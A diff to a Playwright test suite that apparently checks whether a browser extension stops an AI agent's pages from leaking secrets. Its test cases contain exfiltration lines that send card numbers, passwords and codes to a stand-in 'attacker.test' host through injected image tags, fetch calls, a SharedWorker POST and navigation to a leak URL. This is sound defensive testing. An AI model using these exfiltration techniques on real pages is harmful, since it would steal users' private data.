@@ -172,6 +172,16 @@ async function floorHolds(browser: AgentBrowser, urlFilter: string, what: string
   throw new Error(`the floor never received ${what}`);
 }
 
+/**
+ * The watch after an attack: a guarded case is watched for `ms` (what has not arrived by then was stopped);
+ * without the extension the case ends as soon as `arrived()` holds, within the same window (the control
+ * only has to show the attack works).
+ */
+async function watch(browser: AgentBrowser, arrived: () => boolean, ms = QUIET_MS): Promise<void> {
+  if (browser.extensionId !== null) return sleep(ms);
+  for (const until = Date.now() + ms; Date.now() < until && !arrived(); ) await sleep(50);
+}
+
 /** Runs one attack in a fresh page showing a fresh secret; true when the attacker's server saw it. */
 async function runAttack(browser: AgentBrowser, attack: Attack): Promise<boolean> {
   const id = `x${++caseNumber}`;
@@ -203,7 +213,8 @@ async function runAll(browser: AgentBrowser): Promise<Map<string, boolean>> {
   const lane = async () => {
     for (let a = queue.shift(); a !== undefined; a = queue.shift()) results.set(a.name, await runAttack(browser, a));
   };
-  await Promise.all(Array.from({ length: 4 }, lane));
+  // Six at a time: a case is mostly its quiet period, and every case has its own path and secret.
+  await Promise.all(Array.from({ length: 6 }, lane));
   console.log(`floor-exfil (${browser.extensionId === null ? 'no extension' : 'extension'}): reached attacker.test: ${[...results].filter(([, r]) => r).map(([n]) => n).join('; ') || 'none'}`);
   return results;
 }
@@ -234,6 +245,9 @@ const BENIGN_LOADS = (id: string) => [`/${id}/fonts/inter-v12-latin.woff2`, `/${
 
 for (const variant of ['full', 'nohooks'] as const) {
   test.describe(`floor exfiltration, ${variant} build`, () => {
+    // One group per build: its tests share the browser its beforeAll launches, and the groups spread over the
+    // workers. (A parallel file with hooks is otherwise cut into one run of tests per worker, in file order.)
+    test.describe.configure({ mode: 'default' });
     let browser: AgentBrowser;
     test.beforeAll(async () => {
       test.setTimeout(90_000);
@@ -434,9 +448,10 @@ test.describe('shown values with spaces or an @, percent-encoded in a URL', () =
       { attacker, id, values: VALUES },
     );
     if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
-    await sleep(QUIET_MS);
+    const arrived = () => ['card', 'iban', 'email', 'frame'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+    await watch(browser, () => arrived().length === 4);
     await page.close();
-    return ['card', 'iban', 'email', 'frame'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+    return arrived();
   };
 
   for (const variant of ['nohooks', 'full'] as const) {
@@ -486,9 +501,10 @@ test.describe('a secret typed into an unnamed site, reading open', () => {
       { id, pw: PASSWORD, code: CODE },
     );
     if (plain) await server.waitFor(`/${id}/plain/`, ATTACKER, 2 * QUIET_MS);
-    await sleep(QUIET_MS);
+    const arrived = () => ['fetch', 'img'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+    await watch(browser, () => arrived().length === 2);
     await page.close();
-    return ['fetch', 'img'].filter((what) => server.hits(`/${id}/${what}/`, ATTACKER).length > 0);
+    return arrived();
   };
 
   for (const variant of ['nohooks', 'full'] as const) {
@@ -520,7 +536,8 @@ test.describe('a secret typed into an unnamed site, reading open', () => {
  * the floor as soon as the policy listed any approval.
  */
 test.describe('a task that asks before each write, no MAIN-world hooks', () => {
-  const workerPost = async (browser: AgentBrowser, id: string): Promise<number> => {
+  /** The worker's POSTs that arrived: watched for 2 × QUIET_MS when none may, until the one arrives when it may. */
+  const workerPost = async (browser: AgentBrowser, id: string, allowed: boolean): Promise<number> => {
     server.setPage(`/app/${id}`, '<!doctype html><p>app</p>');
     const page = await browser.context.newPage();
     await page.goto(`${server.origin(HOME)}/app/${id}`);
@@ -528,7 +545,7 @@ test.describe('a task that asks before each write, no MAIN-world hooks', () => {
       const src = `fetch(${JSON.stringify(u)}, { method: 'POST', body: 'note=unasked' }).catch(() => {});`;
       new SharedWorker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
     }, `${server.origin(HOME)}/${id}/post`);
-    await sleep(2 * QUIET_MS);
+    await (allowed ? server.waitFor(`/${id}/post`, HOME, 2 * QUIET_MS).catch(() => undefined) : sleep(2 * QUIET_MS));
     await page.close();
     return server.hits(`/${id}/post`, HOME).length;
   };
@@ -538,9 +555,9 @@ test.describe('a task that asks before each write, no MAIN-world hooks', () => {
     const browser = await launch('nohooks');
     try {
       await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-asks', requireApproval: { tools: [], capabilities: [], classes: ['EXTERNAL_WRITE'] } });
-      expect(await workerPost(browser, `asks${++caseNumber}`), 'the unasked worker POST arrived').toBe(0);
+      expect(await workerPost(browser, `asks${++caseNumber}`, false), 'the unasked worker POST arrived').toBe(0);
       await browser.setPolicy({ ...readOnly(), taskId: 'floor-exfil-writes', ceilings: { EXTERNAL_WRITE: 'allow' }, allow: { tools: [], capabilities: [], classes: ['READ', 'EXTERNAL_WRITE'] } });
-      expect(await workerPost(browser, `writes${++caseNumber}`), 'the control POST').toBe(1);
+      expect(await workerPost(browser, `writes${++caseNumber}`, true), 'the control POST').toBe(1);
     } finally {
       await browser.close();
     }
@@ -564,9 +581,10 @@ test.describe('the taint under a flood of forged typing, no MAIN-world hooks', (
         field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
       }
     });
-    await sleep(2 * QUIET_MS);
+    // The collector's time to take the flood in (without the extension nothing takes it in).
+    if (browser.extensionId !== null) await sleep(2 * QUIET_MS);
     await page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}/${id}/after/c${secret.code}.png`);
-    await sleep(QUIET_MS);
+    await watch(browser, () => server.hits(`/${id}/after/`, ATTACKER).length > 0);
     await page.close();
     return server.hits(`/${id}/after/`, ATTACKER).length;
   };
@@ -636,7 +654,7 @@ test.describe('a read grant for an unnamed site and the taint', () => {
     await read;
     const granted = server.hits(`/${id}/news`, ATTACKER).length;
     await page.goto(`${server.origin(ATTACKER)}/${id}/leak?c=${secret.code}`).catch(() => undefined);
-    await sleep(QUIET_MS);
+    await watch(browser, () => server.hits(`/${id}/leak`, ATTACKER).length > 0);
     return { granted, leaked: server.hits(`/${id}/leak`, ATTACKER).length };
   };
 
@@ -662,6 +680,8 @@ test.describe('a read grant for an unnamed site and the taint', () => {
 });
 
 test.describe('floor exfiltration without the extension (negative control)', () => {
+  // One group: its test and the browser its beforeAll launches (see the builds' describe above).
+  test.describe.configure({ mode: 'default' });
   let browser: AgentBrowser;
   test.beforeAll(async () => {
     browser = await launch(null);
